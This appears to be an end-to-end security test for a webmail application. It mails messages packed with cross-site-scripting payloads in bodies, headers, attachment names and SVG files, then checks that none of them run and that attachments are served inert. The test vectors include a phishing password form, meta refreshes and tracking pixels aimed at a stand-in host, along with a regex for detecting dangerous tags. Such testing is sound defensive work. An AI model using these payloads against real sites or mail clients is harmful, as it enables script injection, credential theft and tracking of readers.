// Mail from outside that wants to run something in the reader's browser: in every field that is
// shown, in HTML, in pictures and in file names. It is opened everywhere it is shown. Nothing runs,
// nothing is asked of another host, and what is downloaded is not shown as a page of ours.
import assert from 'node:assert/strict';
import { origin, press, text, until } from './browser.mjs';
import { folderOf } from './journeys.mjs';
import { Imap, Smtp } from './wire.mjs';

const PAYLOAD = 'document.documentElement.dataset.ran=1;alert(1)';

// Each is a message of its own, so that none hides another.
const VECTORS = [
    `<script>${PAYLOAD}</script>`,
    `<scr<script>ipt>${PAYLOAD}</scr</script>ipt>`,
    `<img src=x onerror="${PAYLOAD}">`,
    `<img src="x\` \`><script>${PAYLOAD}</script>"\` \`>`,
    `<svg onload="${PAYLOAD}"><animate onbegin="${PAYLOAD}" attributeName=x dur=1s></svg>`,
    `<svg><style><img src=x onerror="${PAYLOAD}"></style></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${PAYLOAD}>">`,
    `<noscript><p title="</noscript><img src=x onerror=${PAYLOAD}>"></noscript>`,
    `<template><script>${PAYLOAD}</script></template>`,
    `<a class=trap href="javascript:${PAYLOAD}">a</a><a class=trap href="&#106;ava&Tab;script:${PAYLOAD}">b</a>`,
    `<a class=trap href="data:text/html,<script>${PAYLOAD}</script>">c</a>`,
    `<a class=trap href="vbscript:msgbox(1)">d</a>`,
    `<iframe src="javascript:parent.${PAYLOAD}"></iframe><iframe srcdoc="<script>${PAYLOAD}</script>"></iframe>`,
    `<object data="javascript:${PAYLOAD}"></object><embed src="data:text/html,<script>${PAYLOAD}</script>">`,
    `<form action="https://evil.example/"><input name=password><button>Sign in</button></form>`,
    `<meta http-equiv=refresh content="0;url=https://evil.example/"><base href="https://evil.example/">`,
    `<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/y.css";</style>`,
    `<div style="background:url(https://evil.example/bg.png);position:fixed;inset:0;z-index:9">over</div>`,
    `<img src="//evil.example/pixel.png"><video poster="https://evil.example/p.png" autoplay></video>`,
    `<body onload="${PAYLOAD}" background="https://evil.example/b.png">`,
    `<input autofocus onfocus="${PAYLOAD}"><details open ontoggle="${PAYLOAD}">x</details>`,
    `<marquee onstart="${PAYLOAD}">m</marquee><select autofocus onfocus="${PAYLOAD}"></select>`,
    `<xmp><p title="</xmp><img src=x onerror=${PAYLOAD}>"></xmp><!--><img src=x onerror=${PAYLOAD}>-->`,
];

const PICTURE =
    '<p>Hello</p><img src="https://evil.example/pixel.png" ' +
    'srcset="https://evil.example/2x.png 2x">';

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${PAYLOAD}"><script>${PAYLOAD}</script></svg>`;

const TEXT = `"><img src=x onerror=${PAYLOAD}>`;

const part = (kind, name, content) =>
    `--b\nContent-Type: ${kind}; name="${name}"\n` +
    `Content-Disposition: attachment; filename="${name}"\nContent-Transfer-Encoding: base64\n\n` +
    `${Buffer.from(content).toString('base64').replace(/.{76}/g, '$&\n')}\n`;

const word = (words) => `=?utf-8?b?${Buffer.from(words).toString('base64')}?=`;

function evil(subject, html) {
    return (
        `From: ${word(`${TEXT}'><svg onload=${PAYLOAD}>`)} <customer@fabrikam.com>\n` +
        `To: ${word(TEXT)} <support@contoso.com>\nCc: "<b onmouseover=alert(1)>" <x@fabrikam.com>\n` +
        `Subject: ${word(`${subject} ${TEXT}</title><script>${PAYLOAD}</script>`)}\n` +
        'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n' +
        `--b\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: base64\n\n` +
        `${Buffer.from(html).toString('base64').replace(/.{76}/g, '$&\n')}\n` +
        part('image/svg+xml', "a'><img src=x onerror=alert(1)>.svg", SVG) +
        part('text/html', '<script>alert(1)</script>.html', `<script>${PAYLOAD}</script>`) +
        part('image/png', 'really-html.png', `<script>${PAYLOAD}</script>`) +
        part(
            'text/xml',
            'x.xml',
            `<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>1</h:script></x>`,
        ) +
        '--b--\n'
    );
}

async function expectHarmless(page, where) {
    for (const frame of page.frames()) {
        const isFrameOfMessage = frame !== page.mainFrame();
        const html = await frame.content();
        assert.ok(!html.includes('data-ran'), `${where}: something ran`);
        if (!isFrameOfMessage) continue;
        const bad =
            /<(script|iframe|object|embed|form|input|meta http-equiv="?refresh|base|link)\b| on\w+=|javascript:|vbscript:/i;
        assert.doesNotMatch(html.replace(/&lt;.*?&gt;/gs, ''), bad, `${where}: ${html}`);
        for (const link of await frame.locator('a').all()) {
            const target = await link.getAttribute('href');
            assert.ok(target === null || /^(https?|mailto):/i.test(target), `${where}: ${target}`);
        }
    }
}

// What an attachment is served as: never as a page of ours that can run something.
async function expectInert(page, path) {
    const answer = await page.context().request.get(new URL(path, origin).href);
    const headers = answer.headers();
    const isSaved = /^attachment/.test(headers['content-disposition'] ?? '');
    const isPicture = /^image\/(png|jpeg|gif|webp)$/.test(headers['content-type']);
    assert.ok(isSaved || isPicture, `${path}: ${JSON.stringify(headers)}`);
    assert.match(headers['content-security-policy'], /sandbox|default-src 'none'/);
    assert.equal(headers['x-content-type-options'], 'nosniff');
}

export async function hostile(site) {
    const subject = `Trap ${Date.now()}`;
    const outside = await Smtp.outside('customer@fabrikam.com');
    const html = VECTORS.join('\n');
    assert.match(await outside.send('support@contoso.com', evil(subject, PICTURE + html)), /^250/);
    for (const [number, vector] of VECTORS.entries()) {
        const one = evil(`${subject} ${number}`, `<p>Before</p>${vector}<p>After</p>`);
        assert.match(await outside.send('paul.bernard@contoso.com', one), /^250/);
    }
    outside.close();
    const jean = await site.person('jean.dupont');
    await jean.goto(`${origin}/`);
    await folderOf(jean, 'Support', 0);
    await expectHarmless(jean, 'the list');
    await press(jean, jean.locator('.mail-list td.what a', { hasText: subject }));
    await jean.waitForLoadState('networkidle');
    await expectHarmless(jean, 'the message');
    const message = new URL(jean.url()).pathname;
    assert.ok((await text(jean, 'h1')).includes(`</title><script>`), 'the subject is text');
    for (const link of await jean.locator('.attachments a').all()) {
        await expectInert(jean, await link.getAttribute('href'));
    }
    await expectInert(jean, `${message}/original`);
    await expectUnseenOutside(site, jean, message);
    for (const path of [`${message}?as=text`, ...(await answersTo(jean, message))]) {
        await jean.goto(origin + path);
        await expectHarmless(jean, path);
    }
    await openEach(site, subject);
    await elsewhere(site, subject);
    const imap = await Imap.open('jean.dupont');
    await imap.ask('SELECT "Groups/Support"');
    await imap.ask(`UID STORE ${message.split('/').at(-1)} +FLAGS (\\Deleted)`);
    await imap.ask('EXPUNGE');
    imap.close();
}

async function openEach(site, subject) {
    const paul = await site.person('paul.bernard');
    const links = await paul.locator('.mail-list td.what a', { hasText: subject }).all();
    const paths = await Promise.all(links.map((link) => link.getAttribute('href')));
    assert.equal(paths.length, VECTORS.length);
    for (const path of paths) {
        await paul.goto(origin + path);
        assert.match(await paul.frames()[1].content(), /Before/);
        await expectHarmless(paul, await text(paul, 'h1'));
    }
}

async function answersTo(page, message) {
    await page.goto(origin + message);
    const links = await page.locator('main a[href^="/compose"], main a[href^="/desk"]').all();
    return Promise.all(links.map((link) => link.getAttribute('href')));
}

// The reader may have the pictures shown: then, and only then, their host hears of it.
async function expectUnseenOutside(site, page, message) {
    const asked = [];
    await page.context().route(/evil\.example/, (route) => {
        asked.push(route.request().url());
        return route.abort();
    });
    await page.goto(origin + message);
    assert.deepEqual(asked, []);
    site.expectPeace();
    await site.expecting(/ERR_FAILED/, async () => {
        await page.goto(`${origin}${message}?images=1`);
        await until('the pictures are asked for', () => asked.length > 0);
        await page.waitForLoadState('networkidle');
    });
    const troubles = site.takeTroubles();
    assert.ok(
        troubles.every((trouble) => /asks https:\/\/evil\.example\/\w+\.png/.test(trouble)),
        troubles.join('\n'),
    );
    await expectHarmless(page, 'the message with pictures');
}

// The same subject in the pages of the administrator.
async function elsewhere(site, subject) {
    const admin = await site.person('admin');
    await admin.goto(`${origin}/admin/trace`);
    assert.ok((await text(admin)).includes(subject), 'the trace shows it');
    await expectHarmless(admin, 'the trace');
    await press(admin, admin.locator('main tr', { hasText: subject }).first().locator('a'));
    await expectHarmless(admin, 'the trace of the message');
}
